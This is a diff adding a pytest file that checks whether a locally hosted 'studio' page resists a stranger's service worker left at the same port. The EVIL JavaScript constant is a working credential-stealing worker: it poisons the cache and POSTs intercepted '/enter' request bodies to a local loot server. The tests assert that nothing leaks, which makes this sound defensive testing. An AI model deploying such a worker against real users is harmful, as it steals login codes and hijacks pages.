@@ -1,0 +1,199 @@
+"""A service worker that another user's server has left at the studio's address in a browser.
+
+That server had the port before; the studio's page runs under its worker when it is opened.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from contextlib import contextmanager
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from threading import Thread
+from typing import TYPE_CHECKING, Any
+
+import pytest
+
+from tests.support import page_server, studio
+from tests.support.needs import need
+from tests.support.studio import enter
+from tiniscript.studio import serving
+from tiniscript.studio.hosting import Hosting
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Browser, BrowserContext, Page
+
+# It lets all through but a code, which it tells to its own server; and it keeps a page for later.
+EVIL = """
+self.addEventListener('install', (event) => { skipWaiting(); event.waitUntil(
+  caches.open('tiniscript-studio-VERSION').then((cache) =>
+    cache.put('./?', new Response('evil', {headers: {'Content-Type': 'text/html'}})))); });
+self.addEventListener('activate', (event) => event.waitUntil(clients.claim()));
+self.addEventListener('fetch', (event) => {
+  if (!event.request.url.endsWith('/enter')) return;
+  const read = event.request.clone().text();
+  event.respondWith((async () => {
+    await fetch('LOOT', {method: 'POST', mode: 'no-cors', body: await read});
+    return fetch(event.request);
+  })());
+});
+"""
+LEAVES = """async ([name, options]) => {
+  await navigator.serviceWorker.register(name, options);
+  const {active} = await navigator.serviceWorker.ready;
+  while (active.state !== 'activated') await new Promise((done) => setTimeout(done, 20));
+}"""
+CONTROLLED = "() => navigator.serviceWorker.controller?.scriptURL ?? ''"
+WORKERS = """async () => (await navigator.serviceWorker.getRegistrations())
+  .map(({active, waiting, installing}) => (active ?? waiting ?? installing).scriptURL)"""
+TOKEN = "sessionStorage.getItem('tiniscript.token')"
+
+
+class Stranger(ThreadingHTTPServer):
+    """Another user's server; `taken` is what its worker has told it."""
+
+    daemon_threads = True
+
+    def __init__(self, port: int, scripts: dict[str, bytes]) -> None:
+        super().__init__((serving.HOST, port), _Handler)
+        self.scripts = scripts
+        self.taken: list[bytes] = []
+
+
+class _Handler(BaseHTTPRequestHandler):
+    server: Stranger
+
+    def do_GET(self) -> None:
+        script = self.server.scripts.get(self.path)
+        self.send_response(200)
+        self.send_header("Content-Type", "text/javascript" if script else "text/html")
+        self.send_header("Cache-Control", "max-age=86400" if script else "no-store")
+        self.end_headers()
+        self.wfile.write(script or b"<!doctype html><title>x</title>")
+
+    def do_POST(self) -> None:
+        self.server.taken.append(self.rfile.read(int(self.headers["Content-Length"])))
+        self.send_response(204)
+        self.end_headers()
+
+    def log_message(self, format: str, *arguments: Any) -> None:
+        pass
+
+
+@contextmanager
+def runs(made: Stranger) -> Iterator[Stranger]:
+    thread = Thread(target=made.serve_forever, args=(0.02,), daemon=True)
+    thread.start()
+    try:
+        yield made
+    finally:
+        made.shutdown()
+        made.server_close()
+        thread.join()
+
+
+@contextmanager
+def hosted(port: int = 0) -> Iterator[serving.Server]:
+    hosting = Hosting()
+    try:
+        with page_server.serves(serving.Server(serving.files(), port, hosting.answer)) as server:
+            yield server
+    finally:
+        hosting.close()
+
+
+@pytest.fixture
+def context(browser: Browser) -> Iterator[BrowserContext]:
+    need(studio.missing())
+    made = browser.new_context()
+    made.set_default_timeout(90_000)
+    yield made
+    made.close()
+
+
+@pytest.fixture
+def loot() -> Iterator[Stranger]:
+    with runs(Stranger(0, {})) as made:
+        yield made
+
+
+def version() -> str:
+    source = serving.files()[serving.WORKER].data.decode()
+    return source.partition('VERSION = "')[2].partition('"')[0]
+
+
+def left(context: BrowserContext, loot: Stranger, name: str, options: dict[str, str]) -> int:
+    """Let a stranger's server leave its worker; return the port, which is free then."""
+    evil = EVIL.replace("VERSION", version())
+    evil = evil.replace("LOOT", f"http://{serving.HOST}:{loot.server_port}/")
+    with runs(Stranger(0, {f"/{name}": evil.encode()})) as stranger:
+        page = context.new_page()
+        page.goto(f"http://{serving.HOST}:{stranger.server_port}/")
+        page.evaluate(LEAVES, [f"./{name}", options])
+        page.close()
+        return stranger.server_port
+
+
+def is_own(page: Page, server: serving.Server) -> None:
+    """The page has the robots, and only its own worker is or comes there."""
+    assert page.evaluate(TOKEN) == server.entrances.token
+    assert "code" not in page.evaluate("location.href")
+    page.evaluate("navigator.serviceWorker.ready.then(() => 1)")
+    assert page.evaluate(WORKERS) == [f"{server.address}{serving.WORKER}"]
+
+
+@pytest.mark.parametrize("name", ["evil.js", serving.WORKER])
+@pytest.mark.parametrize("options", [{}, {"updateViaCache": "all"}], ids=["", "kept by browsers"])
+def test_no_worker_of_a_stranger_hears_the_code(
+    context: BrowserContext, loot: Stranger, name: str, options: dict[str, str]
+) -> None:
+    """Whatever it calls itself, and however long a browser may keep it."""
+    port = left(context, loot, name, options)
+    with hosted(port) as server:
+        page = context.new_page()
+        enter(page, server.entrance())
+        is_own(page, server)
+        page.close()
+        page = context.new_page()
+        enter(page, server.entrance())  # nothing that it has kept is shown later
+        is_own(page, server)
+        assert page.evaluate(CONTROLLED) == f"{server.address}{serving.WORKER}"
+    assert loot.taken == []
+
+
+def test_the_own_worker_stays(context: BrowserContext) -> None:
+    """A page with a code is loaded once where the server's own worker is, or none."""
+    with hosted() as server:
+        loads: list[str] = []
+        for _ in range(2):
+            page = context.new_page()
+            page.on("load", lambda each: loads.append(each.url))
+            enter(page, server.entrance())
+            is_own(page, server)
+            page.close()
+        assert len(loads) == 2
+
+
+def test_a_worker_that_does_not_go_gets_no_code(context: BrowserContext, loot: Stranger) -> None:
+    port = left(context, loot, "evil.js", {})
+    with hosted(port) as server:
+        page = context.new_page()
+        page.add_init_script("ServiceWorkerRegistration.prototype.unregister = async () => false;")
+        entrance = server.entrance()
+        page.goto(entrance)
+        said = page.locator("#note").filter(has_text="Delete this address’s data in the browser")
+        said.wait_for()
+        assert page.evaluate(TOKEN) is None and server.is_unused(entrance)
+    assert loot.taken == []
+
+
+def test_a_browser_that_asks_for_a_strangers_worker_is_told_that_it_goes() -> None:
+    page = {"index.html": serving.File(b"x", "text/html"), serving.WORKER: serving.File(b"y", "z")}
+    with page_server.serves(serving.Server(page, 0)) as server:
+        own = f"{serving.HOST}:{server.server_port}"
+        for path in ("/evil.js", "/", "/index.html", "/a/b.js?c"):
+            answer, data = page_server.ask(own, path, headers={"Service-Worker": "script"})
+            assert answer.status == 200 and b"registration.unregister()" in data
+            assert answer.getheader("Content-Type") == "text/javascript; charset=utf-8"
+        asked = page_server.ask(own, f"/{serving.WORKER}", headers={"Service-Worker": "script"})
+        assert asked[1] == b"y"
+        assert page_server.ask(own, "/evil.js")[0].status == 404
